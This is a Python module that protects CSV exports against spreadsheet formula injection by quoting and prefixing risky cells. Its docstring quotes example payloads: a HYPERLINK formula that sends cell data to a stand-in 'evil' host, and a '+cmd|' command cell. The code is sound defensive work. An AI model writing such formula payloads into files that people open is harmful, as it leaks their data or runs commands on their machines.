"""Formula-safe CSV for every CSV file the studio writes (batch outputs, usage exports).

A spreadsheet treats a cell that begins with = + - @, a tab or a carriage return as a formula, so a
file name such as `=HYPERLINK("http://evil/?"&A1,"open")` or a model output such as `+cmd|...`
would run in the spreadsheet of whoever opens the file. As OWASP's CSV injection guidance says,
such a cell gets a leading single quote (the spreadsheet shows it as text), and a cell holding a
separator (`,` or `;`, which some locales split on), a quote, a tab or a line break is quoted
(RFC 4180). A number stays a number: `-1.5` and `+3e-2` are written as they are."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
NEEDS_QUOTES = re.compile(r'[",;\t\r\n]|^\s|\s$')
_NUMBER_CELL = r"(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?(?:,|\n|$)"
# In a CSV text with a "\n" in front: a cell (after a line break or a comma) that begins with a formula
# character and is not a number (quoted cells that begin with a sign are looked at too).
RISK = re.compile(r'[\n,](?:"?[=@\t\r\0]|"[+-]|[+-](?!' + _NUMBER_CELL + "))")
# Cheap first looks: without one of these the text needs no change.
_ANYWHERE = (";", "\t", "\r", "\0")
_CELL_STARTS = tuple(sep + c for sep in ("\n", ",") for c in '=+-@"')


def cell(value) -> str:
    """One cell as safe CSV text (quoted when needed)."""
    if value is None:
        return ""
    if isinstance(value, (int, float)) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    if text.startswith(FORMULA_START) and not NUMBER.fullmatch(text):
        text = "'" + text
    if NEEDS_QUOTES.search(text):
        return '"' + text.replace('"', '""') + '"'
    return text


def row(values: Iterable) -> str:
    """One CSV line (with its "\\n") of safe cells."""
    return ",".join(cell(v) for v in values) + "\n"


def rows(lines: Iterable[Iterable]) -> str:
    return "".join(row(values) for values in lines)


def sanitize(text: str) -> str:
    """CSV text (as csv.writer writes it) with every cell made safe; unchanged when nothing needs it."""
    if not needs_change(text):
        return text
    return rows(csv.reader(io.StringIO(text, newline="")))


def needs_change(text: str) -> bool:
    """Whether some cell of `text` is not safe as it is; at C speed for the usual outputs (labels,
    numbers, negative numbers), as every mini-batch's output passes here."""
    if any(c in text for c in _ANYWHERE):
        return True
    probe = "\n" + text
    return any(start in probe for start in _CELL_STARTS) and RISK.search(probe) is not None
